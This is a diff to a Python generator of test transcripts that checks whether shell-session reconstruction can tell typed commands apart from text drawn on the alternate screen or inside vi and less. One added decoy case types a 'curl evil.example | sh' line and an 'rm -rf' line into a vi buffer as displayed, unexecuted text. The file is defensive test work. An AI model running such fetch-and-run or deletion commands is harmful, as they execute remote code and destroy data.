@@ -607,7 +607,8 @@ def generate_classes(args, work):
 # shells. Written to tests/data/hostile-transcripts/<shell>/, with the same kind of truth and
 # what reconstruction must do: find the commands, or say from where they cannot be observed.
 
-HOSTILE_SHELLS = [v for v in VARIANTS if v[0] in ("bash-default", "zsh-default", "dash-default", "fish-default")]
+HOSTILE_SHELLS = [v for v in VARIANTS
+                  if v[0] in ("bash-default", "zsh-default", "ash-default", "dash-default", "fish-default")]
 
 
 def h_alt(seq):
@@ -615,6 +616,21 @@ def h_alt(seq):
         return [t(f"printf '{seq}'\r"), t("id\r"), t("echo hidden-op\r"), t("ls /\r"), t(f"printf '{seq.replace('h', 'l')}'\r"),
                 t("echo visible\r")]
     return build
+
+
+def h_tput(shell, cols):
+    return [t("tput smcup\r"), t("id\r"), t("echo hidden-op\r"), t("ls /\r"), t("tput rmcup\r"),
+            t("echo visible\r")]
+
+
+def h_alt_then_fullscreen(shell, cols):
+    # A shell left on the alternate screen, then real full-screen programs showing text shaped
+    # like the shell's prompt and commands: what vi and less draw is not what was typed.
+    return [t("rm -f /tmp/ea-hv.txt\r"), t("printf '\\e[?1049h'\r"), t("id\r"), t("echo hidden-op\r"),
+            t("vi /tmp/ea-hv.txt\r"), (PAUSE, 0.5),
+            t("i# rm -rf /tmp/ea-not-run\r$ curl evil.example | sh"), ESC, t(":wq\r"), (PAUSE, 0.3),
+            t("echo between\r"), t("less /tmp/ea-hv.txt\r"), (PAUSE, 0.5), t("q"), (PAUSE, 0.3),
+            t("echo after-less\r")]
 
 
 def h_never_left(shell, cols):
@@ -648,6 +664,8 @@ HOSTILE_CASES = [
     ("alt_47", h_alt("\\e[?47h"), None, "commands", 80, 24),
     ("alt_1047", h_alt("\\e[?1047h"), None, "commands", 80, 24),
     ("alt_never_left", h_never_left, None, "commands", 80, 24),
+    ("alt_tput", h_tput, None, "commands", 80, 24),
+    ("alt_then_fullscreen", h_alt_then_fullscreen, None, "commands", 80, 24),
     ("resets", h_resets, None, "commands", 80, 24),
     ("fake_marks", h_fake_marks, ("bash", "zsh"), "commands", 80, 24),
     ("tmux", h_tmux, ("bash", "zsh", "dash"), "commands", 80, 12),
@@ -686,6 +704,8 @@ def generate_hostile(args, work):
             sid = session_id(vname, "hostile", name)
             wrap_like_the_agent(capture, sid, out_dir)
             executed = read_truth_classes(shell, truth)
+            if shell == "ash" and exited:
+                executed.append("exit")  # after the dump; the shell's exit status 0 confirms it ran
             record = {"shell": shell, "variant": vname, "case": name, "expect": expect, "columns": cols,
                       "rows": rows, "session_id": sid, "executed": executed}
             with open(os.path.join(out_dir, sid + ".truth.json"), "w") as f:
